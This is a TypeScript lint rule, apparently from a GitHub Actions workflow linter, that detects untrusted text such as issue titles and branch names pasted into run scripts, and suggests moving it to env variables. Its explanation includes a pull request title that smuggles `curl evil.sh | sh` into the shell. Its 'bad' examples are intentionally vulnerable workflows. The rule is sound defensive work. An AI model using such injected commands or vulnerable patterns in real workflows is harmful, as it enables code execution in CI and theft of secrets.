// gantry-ignore-file undeclared: the fix it suggests shows an example

import { defineRule } from '../rule.ts'
import type { LintExpression } from '../tree/expressions.ts'
import { homeOf, type LintStep } from '../tree/lint-file.ts'
import { moveToEnv } from '../tree/move-to-env.ts'
import { type OutsideText, outsideTextIn } from '../tree/outside-text.ts'
import { isScript } from '../tree/script-inputs.ts'

export const templateInjection = defineRule({
  id: 'template-injection',
  area: 'security',
  severity: 'error',
  summary: 'Text that outsiders write, such as a title or a branch name, put into a script.',
  why: 'The text is pasted before the shell starts: a pull request titled `"; curl evil.sh | sh; "` runs that command.',
  fix: 'Hand it over in `env:` and use the variable, in quotes.',
  bad: [
    `
on: [issues, pull_request]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}" # ✗
      - run: |
          git switch \${{ github.head_ref || github.ref_name }} # ✗
          echo '\${{ toJSON(github.event) }}' # ✗`,
    `
- uses: actions/github-script@v7
  with:
    script: |
      console.log('\${{ github.event.comment.body }}') # ✗`,
    `
on: issues
env: { TITLE: "\${{ github.event.issue.title }}" }
jobs:
  greet:
    runs-on: ubuntu-latest
    outputs: { title: "\${{ steps.read.outputs.title }}" }
    steps:
      - run: echo \${{ env.TITLE }} # ✗
      - id: read
        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"
      - run: echo "NOTE=about \${TITLE}" >> "$GITHUB_ENV"
      - parallel:
          - run: echo \${{ steps.read.outputs.title }} # ✗
          - run: echo "\${{ env.NOTE }}" # ✗
      - uses: nick-fields/retry@v3
        with:
          command: ./greet.sh \${{ env.TITLE }} # ✗
  again:
    needs: greet
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ needs.greet.outputs.title }} # ✗`,
    `
on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - id: changed
        uses: tj-actions/changed-files@v46
      - run: eslint \${{ steps.changed.outputs.all_changed_files }} # ✗`,
  ],
  good: [
    `
on: issues
env: { TITLE: "\${{ github.event.issue.title }}" }
jobs:
  greet:
    runs-on: ubuntu-latest
    env: { TITLE: none }
    steps:
      - run: echo \${{ env.TITLE }}
      - id: read
        env: { NAME: "\${{ github.event.issue.title }}" }
        run: |
          echo "name=$(echo "$NAME" | tr -cd a-z)" >> "$GITHUB_OUTPUT"
          echo "count=1" >> "$GITHUB_OUTPUT"
          echo "$NAME"
      - run: echo "\${{ steps.read.outputs.name }} \${{ steps.read.outputs.count }}"`,
    `
- env:
    TITLE: \${{ github.event.issue.title }}
  run: echo "New issue $TITLE"
- run: echo "\${{ contains(github.event.issue.title, 'bug') && 'a bug' || 'no bug' }}"
- run: echo "\${{ github.event.pull_request.number }} \${{ github.sha }}"`,
    `
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.head_ref || github.ref_name }}"`,
  ],
  check: file =>
    file.expressions.flatMap(expression => {
      const { step } = homeOf(file, expression)
      if (step === undefined || !isScript(step, expression.host)) return []
      const text = outsideTextIn(file, expression)
      if (text === undefined) return []
      const edits = moveToEnv(file, step, expression)
      const holds = text.through === '' ? '' : `, which holds ${text.source}`
      const message = `expected a script without text from outside, got \${{ ${expression.text} }}${holds}`
      return [{ at: expression, message, ...(edits && { edits }), ...adviceFor(step, expression, text) }]
    }),
})

function adviceFor(step: LintStep, { host }: LintExpression, { through }: OutsideText): { fix?: string } {
  const [, variable] = /^env\.(.+)$/.exec(through) ?? []
  if (host !== step.run) {
    return step.uses?.action === 'actions/github-script'
      ? { fix: 'Hand it over in `env:` and read `process.env.NAME`.' }
      : { fix: 'Hand it over in `env:` when the action passes that on, or run the script in a step of your own.' }
  }
  return variable === undefined ? {} : { fix: 'Use the variable itself, in quotes: the shell has it.' }
}
